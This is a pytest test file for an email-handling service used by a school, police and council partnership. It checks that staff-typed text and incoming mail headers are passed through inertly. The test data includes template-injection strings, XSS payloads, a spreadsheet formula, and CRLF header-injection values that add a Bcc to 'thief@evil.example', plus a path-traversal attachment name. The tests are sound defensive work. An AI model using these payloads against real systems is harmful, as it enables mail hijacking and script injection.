"""Words that mean something to a mail program, a template or a browser stay words in whatever we send because of them."""

from __future__ import annotations

import html
import re
from email.message import EmailMessage
from pathlib import Path

import pytest

from tests.answers import SUBJECT, scoping
from tests.correspondence import order
from tests.inside import inside, passed
from tests.servers.sink import Sink
from tests.stage import DOCX, EDGE, OURS, MailServer, Stage, kind_of, mail

POLICE, SCHOOL, STAFF = "liaison@police.example", "dsl@school.example", "wren@borough.example"
TRICK = "{{7*7}} {% raw %} <img src=x onerror=alert(1)> ${7*7} =1+1"
BREAKS = "=0D=0ABcc:_thief@evil.example=0D=0A=0D=0Abody"


@pytest.fixture
def stage(tmp_path: Path, mail_server: MailServer, sink: Sink) -> Stage:
    """A partnership that sends by itself, one of whose agencies has a tricky name."""
    stage = Stage(tmp_path, mail_server, sink)
    named = stage.config.read_text("utf-8").replace('name = "Oakfield Primary School"', f'name = "Oakfield {TRICK}"')
    stage.config.write_text(named, "utf-8")
    return stage


def page(each: EmailMessage) -> str:
    """The mail's HTML."""
    part = each.get_body(("html",))
    assert part is not None
    return str(part.get_content())


def plain(each: EmailMessage) -> str:
    """The mail's text, on one line."""
    part = each.get_body(("plain",))
    assert part is not None
    return " ".join(str(part.get_content()).split())


def test_what_staff_type_stands_in_every_mail_as_it_was_typed(stage: Stage) -> None:
    reference = stage.open_case(SUBJECT)
    mails = passed(stage)
    order(stage, f"{reference} details-sent all", f"{reference} meeting 10 April 2026 10:00 Room {TRICK}")
    order(stage, f"{reference} ask school by 31 March 2026 Who wrote {TRICK} ?")
    order(stage, f"{reference} action school by 2 April 2026 Look at {TRICK} .")
    mails += stage.pass_("2026-03-25T11:00") + stage.pass_("2026-03-30T09:00") + stage.pass_("2026-04-07T09:00")
    assert {kind_of(each) for each in mails if each["To"] == SCHOOL} >= {"request", "invitation", "question", "overdue"}
    assert [each["Subject"] for each in mails if "49" in plain(each) + page(each) + str(each["Subject"])] == []
    assert [each["Subject"] for each in mails if "<img src=x" in page(each)] == []
    named = [each for each in mails if each["To"] == SCHOOL and "{{7*7}}" in plain(each)]
    assert {kind_of(each) for each in named} >= {"request", "invitation", "question"}
    assert [each["Subject"] for each in named if TRICK.split(" <")[0] not in html.unescape(page(each))] == []


def tricky(reference: str) -> bytes:
    """A verified mail with a good form, in whose subject and file name line breaks and markup are hidden."""
    raw = mail(POLICE, f"[{reference} police]", "Attached.", [("form.docx", DOCX, scoping(reference))]).decode("ascii")
    raw = raw.replace("Subject: ", f"Subject: =?utf-8?q?x{BREAKS}?= <script>alert(1)</script> ", 1)
    raw = raw.replace('filename="form.docx"', "filename*=utf-8''..%2F..%2Fx%0D%0ABcc:%20thief@evil.example%0D%0A.docx")
    raw = re.sub(r"Message-ID: <", "Message-ID: <a\u202eb\x7f", raw)
    return raw.encode("utf-8")


def test_line_breaks_in_a_subject_a_message_id_and_a_file_name_stop_no_receipt_and_add_no_header(stage: Stage) -> None:
    reference = stage.open_case(SUBJECT)
    passed(stage)
    stage.server.deliver(tricky(reference))
    mails = passed(stage)
    [receipt] = [each for each in mails if each["To"] == POLICE]
    assert kind_of(receipt) == "receipt"
    assert [each.recipients for each in stage.sink.received if "thief@evil.example" in each.recipients] == []
    for each in mails:
        assert each["Bcc"] is None
        assert each["Cc"] is None
        assert not {"thief", "script", "..", "form.docx"} & set(
            re.findall(r"[\w.]+", plain(each) + page(each) + str(each["Subject"]))
        )
    with inside(stage) as service, service.store.reading() as ledger:
        assert {state.value for state, number in ledger.outbox.counts().items() if number} == {"sent"}, (
            "none waits to be tried again"
        )


def test_a_line_break_in_a_sender_s_name_makes_him_nobody_whom_we_answer(stage: Stage) -> None:
    reference = stage.open_case(SUBJECT)
    passed(stage)
    named = f"From: =?utf-8?q?Ada{BREAKS}?= <{POLICE}>".encode()
    stage.server.deliver(tricky(reference).replace(f"From: {POLICE}".encode(), named))
    assert [each["To"] for each in passed(stage)] == []
    assert stage.endings() == ["held unverified"]


def test_a_document_that_came_in_never_leaves_again(stage: Stage) -> None:
    reference = stage.open_case(SUBJECT)
    passed(stage)
    form = scoping(reference)
    stage.server.deliver(mail(POLICE, f"[{reference} police]", "Attached.", [("form.docx", DOCX, form)]))
    stage.server.deliver(mail(POLICE, f"[{reference} police]", "Attached.", [("a.docx", DOCX, form[:3000])]))
    sent = passed(stage)
    assert {kind_of(each) for each in sent} >= {"receipt", "held"}
    assert [part.get_filename() for each in sent for part in each.iter_attachments()] == []
    assert EDGE not in "".join(each.as_string() for each in sent), "nor does any header of it"
    assert {each["From"].addresses[0].addr_spec for each in sent} == {OURS}
